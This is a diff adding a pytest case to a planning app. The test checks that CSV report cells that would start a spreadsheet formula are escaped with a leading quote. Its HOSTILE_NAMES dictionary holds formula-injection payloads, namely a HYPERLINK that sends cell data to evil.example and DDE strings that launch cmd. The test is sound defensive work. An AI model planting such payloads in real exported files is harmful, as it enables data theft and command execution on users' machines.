@@ -2,15 +2,19 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from collections.abc import Iterator
 from datetime import timedelta
 
 import pytest
 from fastapi.testclient import TestClient
 
-from tests.factories import T0, make_item
+from tests.factories import T0, VALID, make_item
 from tests.support import auth
 from v2mom.app.factory import create_app
+from v2mom.mapping.plan import load_plan
 from v2mom.settings import Settings
 from v2mom.store.database import Database
 from v2mom.store.remap import remap
@@ -173,3 +177,36 @@ def test_item_links_are_http_or_https_only(client: TestClient, seeded: Database)
         document = client.get(f"/api/items/jira/{key}", headers=auth(token)).json()
         assert document["item"]["url"] is None
     assert "javascript" not in flags.text.lower()
+
+
+HOSTILE_NAMES = {
+    "Customer-first thinking": '=HYPERLINK("https://evil.example/?"&A1,"Details")',
+    "Reliability": "+cmd|' /C calc'!A0",
+    "Launch self-serve onboarding": "-2+3+cmd|' /C calc'!A0",
+    "SLO program": "@SUM(1+1)*cmd|' /C calc'!A0",
+}
+
+
+@pytest.mark.parametrize("lead", ["", "\t", "\r"])
+def test_csv_cells_never_start_a_formula_and_numbers_stay_numbers(
+    client: TestClient, seeded: Database, lead: str
+) -> None:
+    """Plan names are anyone's text: a cell a spreadsheet would run as a formula is quoted with a
+    leading "'" (OWASP), a tab or carriage return before it too; a negative effort stays a number."""
+    plan = VALID
+    for name, hostile in HOSTILE_NAMES.items():
+        plan = plan.replace(f"name: {name}\n", f"name: {json.dumps(lead + hostile)}\n")
+    seeded.plans.save(load_plan(plan), actor="test")
+    seeded.items.upsert([make_item("20", key="ONB-20", labels=("value:reliability",), points=-50.0)])
+    remap(seeded)
+    token = seeded.tokens.create("viewer", "pm")
+    body = client.get("/api/reports/effort-by-value.csv", headers=auth(token)).text
+    rows = list(csv.reader(io.StringIO(body, newline="")))  # a cell may hold a carriage return
+    names = {cell for row in rows[1:] for cell in (row[2], row[4]) if cell}
+    assert names - {"Tagged with the value directly"} == {
+        "'" + lead + hostile for hostile in HOSTILE_NAMES.values()
+    }
+    reliability = next(row for row in rows if row[:2] == ["value", "reliability"])
+    assert float(reliability[5]) < 0
+    assert reliability[5].startswith("-")  # a plain negative number, not "'-..."
+    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for row in rows for cell in row[:5])
